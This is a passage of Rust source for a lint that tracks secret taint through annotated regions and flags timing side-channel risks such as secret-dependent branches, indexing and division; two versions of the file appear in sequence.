        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Outcome of linting one source file.
#[derive(Debug, Default)]
pub struct FileOutcome {
    /// Violations found, in line order.
    pub violations: Vec<Violation>,
    /// Number of `ct: secret` regions opened.
    pub regions: usize,
    /// Lines scanned.
    pub lines: usize,
}

/// Outcome of linting a source tree.
#[derive(Debug, Default)]
pub struct TreeOutcome {
    /// Violations across all files, sorted by (file, line, rule).
    pub violations: Vec<Violation>,
    /// Files scanned.
    pub files: usize,
    /// Total `ct: secret` regions.
    pub regions: usize,
    /// Total lines scanned.
    pub lines: usize,
}

/// Lints one file's source text.
///
/// Physical lines are first joined into logical statements (see
/// [`stitch`]): a multi-line `if` condition or a call whose arguments
/// span lines is checked as one unit, so splitting an expression across
/// lines cannot evade a rule.
pub fn lint_source(file: &str, src: &str, allow: &CallAllowlist) -> FileOutcome {
    let mut out = FileOutcome { lines: src.lines().count(), ..FileOutcome::default() };
    // `None` = outside any region; `Some(taint)` = inside, with the
    // current flow-sensitive taint state.
    let mut taint: Option<Taint> = None;
    let mut pending_allow = false;
    // In the allowlisted SIMD modules the blanket unsafe-code rule
    // stands down: the unsafe-audit pass owns those files and holds
    // every block to the stricter `// SAFETY:` standard instead.
    let unsafe_deferred = UNSAFE_ALLOWED_MODULES.iter().any(|m| file.starts_with(m));

    for stmt in stitch(src) {
        let code_blank = stmt.code.trim().is_empty();
        let mut allowed = false;

        for (dline, d) in &stmt.directives {
            match d {
                Directive::Secret(vars) => {
                    if taint.is_none() {
                        out.regions += 1;
                        taint = Some(Taint::new());
                    }
                    let set = taint.as_mut().expect("just set");
                    for v in vars {
                        set.seed(v);
                    }
                }
                Directive::Public(paths) => {
                    if let Some(set) = taint.as_mut() {
                        for p in paths.iter().filter(|p| p.contains('.')) {
                            set.seed_public(p);
                        }
                    }
                }
                Directive::End if taint.is_none() => {
                    push(
                        &mut out,
                        file,
                        *dline,
                        &stmt.raw,
                        Rule::Annotation,
                        "ct: end without an open secret region".into(),
                    );
                }
                Directive::End => taint = None,
                Directive::Allow(_) => {
                    if code_blank {
                        pending_allow = true;
                    } else {
                        allowed = true;
                    }
                }
                Directive::Bad(msg) => {
                    push(&mut out, file, *dline, &stmt.raw, Rule::Annotation, msg.clone());
                }
            }
        }
        if code_blank {
            continue;
        }
        if pending_allow {
            allowed = true;
            pending_allow = false;
        }

        let toks = idents(&stmt.code);
        if toks.iter().any(|t| t.text == "unsafe") && !allowed && !unsafe_deferred {
            push(
                &mut out,
                file,
                stmt.line,
                &stmt.raw,
                Rule::UnsafeCode,
                "unsafe code (workspace is deny(unsafe_code))".into(),
            );
        }

        if let Some(set) = taint.as_mut() {
            let skip = allowed || is_attribute(&stmt.code) || is_debug_assert(&stmt.code, &toks);
            if !skip {
                check_line(&stmt.code, &toks, set, allow, |rule, msg| {
                    push(&mut out, file, stmt.line, &stmt.raw, rule, msg);
                });
            }
            set.observe(&stmt.code, &toks);
        }
    }

    if taint.is_some() {
        let eof = out.lines + 1;
        push(
            &mut out,
            file,
            eof,
            "",
            Rule::Annotation,
            "ct: secret region still open at end of file".into(),
        );
    }
    out
}

fn push(out: &mut FileOutcome, file: &str, line: usize, raw: &str, rule: Rule, message: String) {
    out.violations.push(Violation {
        file: file.to_string(),
        line,
        rule,
        message,
        snippet: raw.trim().to_string(),
    });
}

/// `#[...]` attribute lines carry no executable code.
pub(crate) fn is_attribute(code: &str) -> bool {
    code.trim_start().starts_with('#')
}

/// Lines that are a `debug_assert!` family invocation: compiled out of
/// release builds, so exempt from the constant-time rules.
pub(crate) fn is_debug_assert(code: &str, toks: &[Tok]) -> bool {
    code.trim_start().starts_with("debug_assert")
        && toks.first().map(|t| t.text.starts_with("debug_assert")).unwrap_or(false)
}

/// Runs the in-region rule checks for one scrubbed line.
pub(crate) fn check_line(
    code: &str,
    toks: &[Tok],
    taint: &Taint,
    allow: &CallAllowlist,
    mut report: impl FnMut(Rule, String),
) {
    let chars: Vec<char> = code.chars().collect();
    let tainted_here: Vec<&Tok> = (0..toks.len())
        .filter(|&i| taint.occurrence_tainted(&chars, toks, i))
        .map(|i| &toks[i])
        .collect();
    let line_tainted = !tainted_here.is_empty();

    // secret-branch: if/while/match conditions and range-based for.
    for (i, t) in toks.iter().enumerate() {
        let cond: Option<(usize, usize)> = match t.text.as_str() {
            "if" | "while" | "match" => Some((t.end, brace_or_end(&chars, t.end))),
            "for" => toks.get(i + 1..).and_then(|rest| {
                // Only ranges (`a..b`) have a data-dependent trip
                // count; iterating a secret-valued slice of public
                // length is constant time.
                let in_tok = rest.iter().find(|t| t.text == "in")?;
                let end = brace_or_end(&chars, in_tok.end);
                let seg: String = chars[in_tok.end..end].iter().collect();
                seg.contains("..").then_some((in_tok.end, end))
            }),
            _ => None,
        };
        if let Some((lo, hi)) = cond {
            let names = tainted_in_span(&chars, toks, taint, lo, hi);
            if !names.is_empty() {
                report(
                    Rule::SecretBranch,
                    format!(
                        "`{}` condition depends on secret value(s) {}",
                        t.text,
                        names.join(", ")
                    ),
                );
            }
        }
    }
    // secret-branch: short-circuit operators evaluate their right side
    // conditionally — a branch in disguise.
    if line_tainted {
        for pat in ["&&", "||"] {
            if code.contains(pat) {
                let names: Vec<&str> = tainted_here.iter().map(|t| t.text.as_str()).collect();
                report(
                    Rule::SecretBranch,
                    format!("short-circuit `{pat}` with secret value(s) {} in scope (use bitwise `&`/`|`)", names.join(", ")),
                );
                break;
            }
        }
    }

    // secret-index: `base[expr]` with a tainted index expression.
    let mut p = 0;
    while p < chars.len() {
        if chars[p] == '[' && is_index_bracket(&chars, p) {
            let close = matching_bracket(&chars, p);
            let names = tainted_in_span(&chars, toks, taint, p + 1, close);
            if !names.is_empty() {
                report(
                    Rule::SecretIndex,
                    format!("memory index depends on secret value(s) {}", names.join(", ")),
                );
            }
            p = close;
        }
        p += 1;
    }

    // secret-divmod.
    if line_tainted && chars.iter().any(|&c| c == '/' || c == '%') {
        let names: Vec<&str> = tainted_here.iter().map(|t| t.text.as_str()).collect();
        report(
            Rule::SecretDivMod,
            format!(
                "`/` or `%` on a line with secret value(s) {} (division latency is data-dependent)",
                names.join(", ")
            ),
        );
    }

    // secret-call.
    if line_tainted {
        for t in toks {
            if is_keyword(&t.text)
                || t.text.starts_with(char::is_uppercase)
                || allow.allows(&t.text)
            {
                continue;
            }
            let mut j = t.end;
            if chars.get(j) == Some(&'!') {
                j += 1;
            }
            while chars.get(j) == Some(&' ') {
                j += 1;
            }
            if chars.get(j) == Some(&'(') {
                report(
                    Rule::SecretCall,
                    format!("call to `{}` (not on the constant-time allowlist) with secret value(s) in scope", t.text),
                );
            }
        }
    }
}

/// Tainted occurrence names within a char span, deduplicated in order.
fn tainted_in_span<'a>(
    chars: &[char],
    toks: &'a [Tok],
    taint: &Taint,
    lo: usize,
    hi: usize,
) -> Vec<&'a str> {
    let mut names: Vec<&str> = Vec::new();
    for (i, t) in toks.iter().enumerate() {
        if t.start >= lo
            && t.end <= hi
            && taint.occurrence_tainted(chars, toks, i)
            && !names.contains(&t.text.as_str())
        {
            names.push(&t.text);
        }
    }
    names
}

/// Index of the first `{` at or after `from` (or end of line).
fn brace_or_end(chars: &[char], from: usize) -> usize {
    (from..chars.len()).find(|&i| chars[i] == '{').unwrap_or(chars.len())
}

/// Whether the `[` at `p` indexes a value (vs opening a literal, type
/// or attribute): true when preceded by an identifier char, `]` or `)`.
fn is_index_bracket(chars: &[char], p: usize) -> bool {
    chars[..p]
        .iter()
        .rev()
        .find(|c| **c != ' ')
        .map(|&c| c.is_alphanumeric() || c == '_' || c == ']' || c == ')')
        .unwrap_or(false)
}

/// Index of the `]` matching the `[` at `p` (or end of line).
fn matching_bracket(chars: &[char], p: usize) -> usize {
    let mut depth = 0usize;
    for (i, &c) in chars.iter().enumerate().skip(p) {
        match c {
            '[' => depth += 1,
            ']' => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
    }
    chars.len()
}

/// Rust keywords that can never be call targets or bindings. Shared
/// with the call-graph extractor.
pub(crate) fn is_keyword(s: &str) -> bool {
    matches!(
        s,
        "if" | "else"
            | "while"
            | "for"
            | "loop"
            | "match"
            | "return"
            | "break"
            | "continue"
            | "let"
            | "mut"
            | "ref"
            | "fn"
            | "pub"
            | "crate"
            | "super"
            | "mod"
            | "use"
            | "in"
            | "as"
            | "where"
            | "impl"
            | "struct"
            | "enum"
            | "trait"
            | "type"
            | "const"
            | "static"
            | "move"
            | "dyn"
            | "unsafe"
    )
}

/// Flow- and field-sensitive taint state for one linear replay.
///
/// The state is a set of secret binding roots plus a set of *public
/// projections* (`"sk.logn"`), and a snapshot stack mirroring brace
/// depth:
///
/// * **Gen** — a binding whose right-hand side mentions a tainted
///   occurrence taints its left-hand side identifiers.
/// * **Kill** — a plain rebinding (`let x = …` / `x = …`, not compound,
///   no field/index target, no trailing block) whose right-hand side is
///   entirely public removes the taint of its left-hand side names.
/// * **Join** — `{` pushes a snapshot of the secret set; `}` pops it
///   and unions it back in. Taint *added* inside a block survives the
///   block (the block may execute), while taint *killed* inside a block
///   is restored (the block may not execute) — the standard may-taint
///   join, realised lexically.
/// * **Field sensitivity** — an occurrence `root.field` where
///   `root.field` is a declared public projection does not count as
///   tainted, so `sk.logn()`-style accessors of public fields stop
///   over-tainting everything downstream.
#[derive(Debug, Clone, Default)]
pub struct Taint {
    secret: BTreeSet<String>,
    public_paths: BTreeSet<String>,
    stack: Vec<BTreeSet<String>>,
}

/// Brace-snapshot stack depth bound: beyond this the replay stops
/// pushing (joins degrade to keep-everything, which is conservative).
const MAX_SCOPE_DEPTH: usize = 64;

impl Taint {
    /// Empty state.
    pub fn new() -> Taint {
        Taint::default()
    }

    /// Marks a binding root as secret.
    pub fn seed(&mut self, name: &str) {
        self.secret.insert(name.to_string());
    }

    /// Declares a dotted projection (`"sk.logn"`) public.
    pub fn seed_public(&mut self, path: &str) {
        self.public_paths.insert(path.to_string());
    }

    /// Whether `name` is currently a secret root.
    pub fn contains(&self, name: &str) -> bool {
        self.secret.contains(name)
    }

    /// Number of secret roots currently live.
    pub fn len(&self) -> usize {
        self.secret.len()
    }

    /// Whether no root is tainted.
    pub fn is_empty(&self) -> bool {
        self.secret.is_empty()
    }

    /// The secret roots, for summaries and messages.
    pub fn roots(&self) -> impl Iterator<Item = &str> {
        self.secret.iter().map(|s| s.as_str())
    }

    /// The projection `x.f` read at token `i`, if the token is
    /// immediately followed by a single `.` and an identifier (`..`
    /// ranges and tuple indices return `None`).
    fn projection<'a>(&self, chars: &[char], toks: &'a [Tok], i: usize) -> Option<&'a str> {
        let t = &toks[i];
        let mut j = t.end;
        while chars.get(j) == Some(&' ') {
            j += 1;
        }
        if chars.get(j) != Some(&'.') || chars.get(j + 1) == Some(&'.') {
            return None;
        }
        j += 1;
        while chars.get(j) == Some(&' ') {
            j += 1;
        }
        let nt = toks.get(i + 1)?;
        (nt.start == j).then_some(nt.text.as_str())
    }

    /// Whether the identifier occurrence at `toks[i]` reads secret data:
    /// its root must be tainted and its immediate projection (if any)
    /// must not be a declared public path.
    pub fn occurrence_tainted(&self, chars: &[char], toks: &[Tok], i: usize) -> bool {
        let t = &toks[i];
        if !self.secret.contains(&t.text) {
            return false;
        }
        if let Some(proj) = self.projection(chars, toks, i) {
            let path = format!("{}.{proj}", t.text);
            if self.public_paths.contains(&path) {
                return false;
            }
        }
        true
    }

    /// Taint propagation plus scope maintenance for one statement: gen
    /// and kill on bindings, then snapshot push/pop for each brace.
    pub fn observe(&mut self, code: &str, toks: &[Tok]) {
        let chars: Vec<char> = code.chars().collect();
        if let Some(p) = binding_eq(&chars) {
            let rhs_tainted = (0..toks.len())
                .any(|i| toks[i].start > p && self.occurrence_tainted(&chars, toks, i));
            let lhs_idents = || {
                toks.iter().filter(|t| {
                    t.start < p
                        && !is_keyword(&t.text)
                        && !t.text.starts_with(char::is_uppercase)
                        && t.text != "_"
                })
            };
            if rhs_tainted {
                for t in lhs_idents() {
                    self.secret.insert(t.text.clone());
                }
            } else if kill_allowed(&chars, p) {
                for t in lhs_idents() {
                    self.secret.remove(&t.text);
                }
            }
        }
        for &c in &chars {
            match c {
                '{' if self.stack.len() < MAX_SCOPE_DEPTH => {
                    self.stack.push(self.secret.clone());
                }
                '}' => {
                    if let Some(saved) = self.stack.pop() {
                        self.secret.extend(saved);
                    }
                }
                _ => {}
            }
        }
    }
}

/// Whether a public rebinding at `=` position `p` may kill taint. The
/// kill must be provably unconditional and total over its targets:
///
/// * no `{` in the statement (a trailing block means the right-hand
///   side continues on later statements, e.g. `let x = match y {`);
/// * no `[` or `.` left of the `=` (an element or field store leaves
///   the rest of the binding secret);
/// * not a compound assignment (`+=` etc. reads the old value).
fn kill_allowed(chars: &[char], p: usize) -> bool {
    if chars.contains(&'{') {
        return false;
    }
    if chars[..p].iter().any(|&c| c == '[' || c == '.') {
        return false;
    }
    let prev = chars[..p].iter().rev().find(|c| **c != ' ');
    !matches!(prev, Some('+' | '-' | '*' | '/' | '%' | '&' | '|' | '^' | '<' | '>'))
}

/// Position of the binding `=` (plain or compound), if any: skips
/// `==`, `!=`, `<=`, `>=` and `=>` but accepts `<<=`/`>>=`.
pub(crate) fn binding_eq(chars: &[char]) -> Option<usize> {
    for p in 0..chars.len() {
        if chars[p] != '=' {
            continue;
        }
        let prev = if p > 0 { chars[p - 1] } else { ' ' };
        let next = chars.get(p + 1).copied().unwrap_or(' ');
        if prev == '=' || prev == '!' || next == '=' || next == '>' {
            continue;
        }
        if prev == '<' || prev == '>' {
            let prev2 = if p > 1 { chars[p - 2] } else { ' ' };
            if prev2 != prev {
                continue; // `<=` / `>=`
            }
        }
        return Some(p);
    }
    None
}

/// Lints every `.rs` file under `root`, skipping `target/` and hidden
/// directories. Paths in the outcome are relative to `root` with `/`
/// separators, so reports and baselines are machine-independent.
pub fn lint_tree(root: &Path, allow: &CallAllowlist) -> std::io::Result<TreeOutcome> {
    let mut files = Vec::new();
    collect_rs_files(root, root, &mut files)?;
    files.sort();
    let mut out = TreeOutcome { files: files.len(), ..TreeOutcome::default() };
    for rel in &files {
        let src = std::fs::read_to_string(root.join(rel))?;
        let fo = lint_source(rel, &src, allow);
        out.regions += fo.regions;
        out.lines += fo.lines;
        out.violations.extend(fo.violations);
    }
    out.violations.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    Ok(out)
}

/// Collects workspace-relative `/`-separated paths of every `.rs` file
/// under `dir`, skipping `target/` and hidden directories. Shared by the
/// region lint, the interprocedural pass and the audit passes so all of
/// them see the same tree.
pub(crate) fn collect_rs_files(
    root: &Path,
    dir: &Path,
    out: &mut Vec<String>,
) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        let path = entry.path();
        let name = entry.file_name().to_string_lossy().into_owned();
        if path.is_dir() {
            if name == "target" || name.starts_with('.') {
                continue;
            }
            collect_rs_files(root, &path, out)?;
        } else if name.ends_with(".rs") {
            let rel = path
                .strip_prefix(root)
                .unwrap_or(&path)
                .components()
                .map(|c| c.as_os_str().to_string_lossy())
                .collect::<Vec<_>>()
                .join("/");
            out.push(rel);
        }
    }
    Ok(())
}
