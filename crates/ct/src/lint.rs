//! The secret-taint lint: line-level taint tracking plus rule checks
//! over `ct: secret` annotated regions.
//!
//! A region opens with `// ct: secret(a, b)`, which seeds a taint set
//! with the named identifiers, and closes with `// ct: end`. Within a
//! region, taint propagates through `let` bindings and assignments
//! (any binding whose right-hand side mentions a tainted identifier
//! taints its left-hand side), and four rules apply:
//!
//! * **secret-branch** — `if`/`while`/`match` conditions, range-based
//!   `for` bounds, and short-circuit `&&`/`||` must not involve tainted
//!   identifiers (short-circuit evaluation is itself a branch; the
//!   constant-time idiom is bitwise `&`/`|` on `bool`).
//! * **secret-index** — `x[i]` where the *index expression* mentions a
//!   tainted identifier (a tainted base with a public index is a fixed
//!   address and is fine).
//! * **secret-divmod** — `/` or `%` on a tainted line: integer division
//!   has data-dependent latency on every mainstream core.
//! * **secret-call** — calls to functions outside the
//!   [allowlist](crate::rules) on tainted lines, since the lint cannot
//!   see into the callee.
//!
//! A fifth rule, **unsafe-code**, applies everywhere (regions or not):
//! the workspace is `#![deny(unsafe_code)]` and the lint backstops
//! that for code the compiler has not seen yet (fixtures, cfg'd-out
//! blocks). The one carve-out is the explicit-SIMD kernel modules in
//! [`crate::rules::UNSAFE_ALLOWED_MODULES`]: there the rule defers to
//! the stricter **unsafe-audit** pass, which additionally demands a
//! `// SAFETY:` justification on every block — a blanket `unsafe-code`
//! finding in those files would only drown the audit's real signal.
//! **annotation** reports malformed or unbalanced directives so a typo
//! cannot silently disable checking.
//!
//! `// ct: allow(reason)` suppresses the rule checks for one line —
//! the line it trails, or the next code-bearing line when it stands
//! alone — and requires a reason. Lines whose code consists of a
//! `debug_assert!` family macro are skipped entirely: they are compiled
//! out of release signing builds.

use crate::rules::{CallAllowlist, UNSAFE_ALLOWED_MODULES};
use crate::scan::{idents, stitch, Directive, Tok};
use std::collections::BTreeSet;
use std::fmt;
use std::path::Path;

/// Rule identifiers, ordered by severity for report sorting.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Rule {
    /// Secret-dependent control flow.
    SecretBranch,
    /// Secret-dependent memory indexing.
    SecretIndex,
    /// `/` or `%` with secrets in scope.
    SecretDivMod,
    /// Non-allowlisted call with secrets in scope.
    SecretCall,
    /// Any `unsafe` token (workspace is `forbid(unsafe_code)`).
    UnsafeCode,
    /// `unsafe` outside an allowlisted module or without a `// SAFETY:`
    /// justification (the audit gate for the SIMD kernel work).
    UnsafeAudit,
    /// Iteration-order-dependent container in a result-affecting path.
    DetMapIter,
    /// Wall-clock reads (`Instant`/`SystemTime`) in library code.
    DetWallClock,
    /// Environment reads in library code.
    DetEnvRead,
    /// Thread-identity reads in library code.
    DetThreadId,
    /// Non-associative floating-point reduction outside the pinned
    /// fold kernels.
    DetFloatFold,
    /// Malformed or unbalanced `ct:` directive.
    Annotation,
}

impl Rule {
    /// Stable machine-readable identifier (used in reports/baselines).
    pub fn id(self) -> &'static str {
        match self {
            Rule::SecretBranch => "secret-branch",
            Rule::SecretIndex => "secret-index",
            Rule::SecretDivMod => "secret-divmod",
            Rule::SecretCall => "secret-call",
            Rule::UnsafeCode => "unsafe-code",
            Rule::UnsafeAudit => "unsafe-audit",
            Rule::DetMapIter => "det-map-iter",
            Rule::DetWallClock => "det-wall-clock",
            Rule::DetEnvRead => "det-env-read",
            Rule::DetThreadId => "det-thread-id",
            Rule::DetFloatFold => "det-float-fold",
            Rule::Annotation => "annotation",
        }
    }

    /// Inverse of [`Rule::id`] (for baseline loading).
    pub fn from_id(id: &str) -> Option<Rule> {
        match id {
            "secret-branch" => Some(Rule::SecretBranch),
            "secret-index" => Some(Rule::SecretIndex),
            "secret-divmod" => Some(Rule::SecretDivMod),
            "secret-call" => Some(Rule::SecretCall),
            "unsafe-code" => Some(Rule::UnsafeCode),
            "unsafe-audit" => Some(Rule::UnsafeAudit),
            "det-map-iter" => Some(Rule::DetMapIter),
            "det-wall-clock" => Some(Rule::DetWallClock),
            "det-env-read" => Some(Rule::DetEnvRead),
            "det-thread-id" => Some(Rule::DetThreadId),
            "det-float-fold" => Some(Rule::DetFloatFold),
            "annotation" => Some(Rule::Annotation),
            _ => None,
        }
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

/// One rule violation at a source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// Path of the offending file (workspace-relative in tree scans).
    pub file: String,
    /// 1-based line number.
    pub line: usize,
    /// The violated rule.
    pub rule: Rule,
    /// Human-readable explanation naming the tainted identifiers.
    pub message: String,
    /// The offending source line, trimmed.
    pub snippet: String,
}

impl Violation {
    /// Content-addressed fingerprint for baselining: hashes the file,
    /// rule and whitespace-normalised snippet — but *not* the line
    /// number, so unrelated edits above a baselined violation do not
    /// resurface it.
    pub fn fingerprint(&self) -> String {
        let mut norm = String::with_capacity(self.snippet.len());
        for (i, word) in self.snippet.split_whitespace().enumerate() {
            if i > 0 {
                norm.push(' ');
            }
            norm.push_str(word);
        }
        format!("{:016x}", fnv1a64(&format!("{}|{}|{}", self.file, self.rule.id(), norm)))
    }
}

impl fmt::Display for Violation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}: [{}] {}", self.file, self.line, self.rule, self.message)
    }
}

/// 64-bit FNV-1a over UTF-8 bytes.
fn fnv1a64(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Outcome of linting one source file.
#[derive(Debug, Default)]
pub struct FileOutcome {
    /// Violations found, in line order.
    pub violations: Vec<Violation>,
    /// Number of `ct: secret` regions opened.
    pub regions: usize,
    /// Lines scanned.
    pub lines: usize,
}

/// Outcome of linting a source tree.
#[derive(Debug, Default)]
pub struct TreeOutcome {
    /// Violations across all files, sorted by (file, line, rule).
    pub violations: Vec<Violation>,
    /// Files scanned.
    pub files: usize,
    /// Total `ct: secret` regions.
    pub regions: usize,
    /// Total lines scanned.
    pub lines: usize,
}

/// Lints one file's source text.
///
/// Physical lines are first joined into logical statements (see
/// [`stitch`]): a multi-line `if` condition or a call whose arguments
/// span lines is checked as one unit, so splitting an expression across
/// lines cannot evade a rule.
pub fn lint_source(file: &str, src: &str, allow: &CallAllowlist) -> FileOutcome {
    let mut out = FileOutcome { lines: src.lines().count(), ..FileOutcome::default() };
    // `None` = outside any region; `Some(taint)` = inside, with the
    // current set of secret identifiers.
    let mut taint: Option<BTreeSet<String>> = None;
    let mut pending_allow = false;
    // In the allowlisted SIMD modules the blanket unsafe-code rule
    // stands down: the unsafe-audit pass owns those files and holds
    // every block to the stricter `// SAFETY:` standard instead.
    let unsafe_deferred = UNSAFE_ALLOWED_MODULES.iter().any(|m| file.starts_with(m));

    for stmt in stitch(src) {
        let code_blank = stmt.code.trim().is_empty();
        let mut allowed = false;

        for (dline, d) in &stmt.directives {
            match d {
                Directive::Secret(vars) => {
                    if taint.is_none() {
                        out.regions += 1;
                        taint = Some(BTreeSet::new());
                    }
                    taint.as_mut().expect("just set").extend(vars.iter().cloned());
                }
                Directive::End if taint.is_none() => {
                    push(
                        &mut out,
                        file,
                        *dline,
                        &stmt.raw,
                        Rule::Annotation,
                        "ct: end without an open secret region".into(),
                    );
                }
                Directive::End => taint = None,
                Directive::Allow(_) => {
                    if code_blank {
                        pending_allow = true;
                    } else {
                        allowed = true;
                    }
                }
                Directive::Bad(msg) => {
                    push(&mut out, file, *dline, &stmt.raw, Rule::Annotation, msg.clone());
                }
            }
        }
        if code_blank {
            continue;
        }
        if pending_allow {
            allowed = true;
            pending_allow = false;
        }

        let toks = idents(&stmt.code);
        if toks.iter().any(|t| t.text == "unsafe") && !allowed && !unsafe_deferred {
            push(
                &mut out,
                file,
                stmt.line,
                &stmt.raw,
                Rule::UnsafeCode,
                "unsafe code (workspace is deny(unsafe_code))".into(),
            );
        }

        if let Some(set) = taint.as_mut() {
            let skip = allowed || is_attribute(&stmt.code) || is_debug_assert(&stmt.code, &toks);
            if !skip {
                check_line(&stmt.code, &toks, set, allow, |rule, msg| {
                    push(&mut out, file, stmt.line, &stmt.raw, rule, msg);
                });
            }
            propagate(&stmt.code, &toks, set);
        }
    }

    if taint.is_some() {
        let eof = out.lines + 1;
        push(
            &mut out,
            file,
            eof,
            "",
            Rule::Annotation,
            "ct: secret region still open at end of file".into(),
        );
    }
    out
}

fn push(out: &mut FileOutcome, file: &str, line: usize, raw: &str, rule: Rule, message: String) {
    out.violations.push(Violation {
        file: file.to_string(),
        line,
        rule,
        message,
        snippet: raw.trim().to_string(),
    });
}

/// `#[...]` attribute lines carry no executable code.
pub(crate) fn is_attribute(code: &str) -> bool {
    code.trim_start().starts_with('#')
}

/// Lines that are a `debug_assert!` family invocation: compiled out of
/// release builds, so exempt from the constant-time rules.
pub(crate) fn is_debug_assert(code: &str, toks: &[Tok]) -> bool {
    code.trim_start().starts_with("debug_assert")
        && toks.first().map(|t| t.text.starts_with("debug_assert")).unwrap_or(false)
}

/// Runs the in-region rule checks for one scrubbed line.
pub(crate) fn check_line(
    code: &str,
    toks: &[Tok],
    taint: &BTreeSet<String>,
    allow: &CallAllowlist,
    mut report: impl FnMut(Rule, String),
) {
    let chars: Vec<char> = code.chars().collect();
    let tainted_here: Vec<&Tok> = toks.iter().filter(|t| taint.contains(&t.text)).collect();
    let line_tainted = !tainted_here.is_empty();

    // secret-branch: if/while/match conditions and range-based for.
    for (i, t) in toks.iter().enumerate() {
        let cond: Option<(usize, usize)> = match t.text.as_str() {
            "if" | "while" | "match" => Some((t.end, brace_or_end(&chars, t.end))),
            "for" => toks.get(i + 1..).and_then(|rest| {
                // Only ranges (`a..b`) have a data-dependent trip
                // count; iterating a secret-valued slice of public
                // length is constant time.
                let in_tok = rest.iter().find(|t| t.text == "in")?;
                let end = brace_or_end(&chars, in_tok.end);
                let seg: String = chars[in_tok.end..end].iter().collect();
                seg.contains("..").then_some((in_tok.end, end))
            }),
            _ => None,
        };
        if let Some((lo, hi)) = cond {
            let names = tainted_in_span(toks, taint, lo, hi);
            if !names.is_empty() {
                report(
                    Rule::SecretBranch,
                    format!(
                        "`{}` condition depends on secret value(s) {}",
                        t.text,
                        names.join(", ")
                    ),
                );
            }
        }
    }
    // secret-branch: short-circuit operators evaluate their right side
    // conditionally — a branch in disguise.
    if line_tainted {
        for pat in ["&&", "||"] {
            if code.contains(pat) {
                let names: Vec<&str> = tainted_here.iter().map(|t| t.text.as_str()).collect();
                report(
                    Rule::SecretBranch,
                    format!("short-circuit `{pat}` with secret value(s) {} in scope (use bitwise `&`/`|`)", names.join(", ")),
                );
                break;
            }
        }
    }

    // secret-index: `base[expr]` with a tainted index expression.
    let mut p = 0;
    while p < chars.len() {
        if chars[p] == '[' && is_index_bracket(&chars, p) {
            let close = matching_bracket(&chars, p);
            let names = tainted_in_span(toks, taint, p + 1, close);
            if !names.is_empty() {
                report(
                    Rule::SecretIndex,
                    format!("memory index depends on secret value(s) {}", names.join(", ")),
                );
            }
            p = close;
        }
        p += 1;
    }

    // secret-divmod.
    if line_tainted && chars.iter().any(|&c| c == '/' || c == '%') {
        let names: Vec<&str> = tainted_here.iter().map(|t| t.text.as_str()).collect();
        report(
            Rule::SecretDivMod,
            format!(
                "`/` or `%` on a line with secret value(s) {} (division latency is data-dependent)",
                names.join(", ")
            ),
        );
    }

    // secret-call.
    if line_tainted {
        for t in toks {
            if is_keyword(&t.text)
                || t.text.starts_with(char::is_uppercase)
                || allow.allows(&t.text)
            {
                continue;
            }
            let mut j = t.end;
            if chars.get(j) == Some(&'!') {
                j += 1;
            }
            while chars.get(j) == Some(&' ') {
                j += 1;
            }
            if chars.get(j) == Some(&'(') {
                report(
                    Rule::SecretCall,
                    format!("call to `{}` (not on the constant-time allowlist) with secret value(s) in scope", t.text),
                );
            }
        }
    }
}

/// Tainted identifier names within a char span, deduplicated in order.
fn tainted_in_span<'a>(
    toks: &'a [Tok],
    taint: &BTreeSet<String>,
    lo: usize,
    hi: usize,
) -> Vec<&'a str> {
    let mut names: Vec<&str> = Vec::new();
    for t in toks {
        if t.start >= lo
            && t.end <= hi
            && taint.contains(&t.text)
            && !names.contains(&t.text.as_str())
        {
            names.push(&t.text);
        }
    }
    names
}

/// Index of the first `{` at or after `from` (or end of line).
fn brace_or_end(chars: &[char], from: usize) -> usize {
    (from..chars.len()).find(|&i| chars[i] == '{').unwrap_or(chars.len())
}

/// Whether the `[` at `p` indexes a value (vs opening a literal, type
/// or attribute): true when preceded by an identifier char, `]` or `)`.
fn is_index_bracket(chars: &[char], p: usize) -> bool {
    chars[..p]
        .iter()
        .rev()
        .find(|c| **c != ' ')
        .map(|&c| c.is_alphanumeric() || c == '_' || c == ']' || c == ')')
        .unwrap_or(false)
}

/// Index of the `]` matching the `[` at `p` (or end of line).
fn matching_bracket(chars: &[char], p: usize) -> usize {
    let mut depth = 0usize;
    for (i, &c) in chars.iter().enumerate().skip(p) {
        match c {
            '[' => depth += 1,
            ']' => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
    }
    chars.len()
}

/// Rust keywords that can never be call targets or bindings. Shared
/// with the call-graph extractor.
pub(crate) fn is_keyword(s: &str) -> bool {
    matches!(
        s,
        "if" | "else"
            | "while"
            | "for"
            | "loop"
            | "match"
            | "return"
            | "break"
            | "continue"
            | "let"
            | "mut"
            | "ref"
            | "fn"
            | "pub"
            | "crate"
            | "super"
            | "mod"
            | "use"
            | "in"
            | "as"
            | "where"
            | "impl"
            | "struct"
            | "enum"
            | "trait"
            | "type"
            | "const"
            | "static"
            | "move"
            | "dyn"
            | "unsafe"
    )
}

/// Taint propagation through one line: if the right-hand side of a
/// binding (`let x = …`, `x = …`, `x += …`, destructuring `let (a, b)
/// = …`) mentions a tainted identifier, the left-hand side identifiers
/// become tainted. Taint is never removed (conservative).
pub(crate) fn propagate(code: &str, toks: &[Tok], taint: &mut BTreeSet<String>) {
    let chars: Vec<char> = code.chars().collect();
    let Some(p) = binding_eq(&chars) else { return };
    let rhs_tainted = toks.iter().any(|t| t.start > p && taint.contains(&t.text));
    if !rhs_tainted {
        return;
    }
    for t in toks {
        if t.start < p
            && !is_keyword(&t.text)
            && !t.text.starts_with(char::is_uppercase)
            && t.text != "_"
        {
            taint.insert(t.text.clone());
        }
